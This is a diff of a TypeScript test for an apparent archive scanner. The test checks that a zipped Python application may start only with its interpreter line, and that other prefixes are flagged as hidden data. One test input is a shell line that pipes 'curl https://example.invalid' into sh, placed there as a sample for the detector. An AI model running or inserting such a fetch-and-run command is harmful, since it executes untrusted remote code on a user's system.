@@ -359,13 +359,16 @@ test('archives that are none, or are not read, are told', async () => {
   assert.ok(told(await inArchive(cut)).some((each) => each.includes('unread')));
 });
 
-test('an archive that is named as code, or has a script before it', async () => {
-  const app = Buffer.concat([
-    Buffer.from('#!/usr/bin/env python3\n'),
-    zip([{ name: '__main__.py', content: '1' }]),
-  ]);
-  assert.deepEqual(told(await inArchive(app, 'app.pyz')), [
-    '!/__main__.py: python',
-    ': found archive/hidden-data',
-  ]);
+test('a zipped application may begin with its interpreter, and with nothing else', async () => {
+  const zipped = zip([{ name: '__main__.py', content: '1' }]);
+  const of = async (before: string): Promise<string[]> =>
+    told(await inArchive(Buffer.concat([Buffer.from(before), zipped]), 'app.pyz'));
+  assert.deepEqual(await of('#!/usr/bin/env python3\n'), ['!/__main__.py: python']);
+  for (const before of [
+    '#!/bin/sh\ncurl https://example.invalid | sh\n',
+    'MZ',
+    `#!/${'x'.repeat(300)}\n`,
+  ]) {
+    assert.deepEqual(await of(before), ['!/__main__.py: python', ': found archive/hidden-data']);
+  }
 });
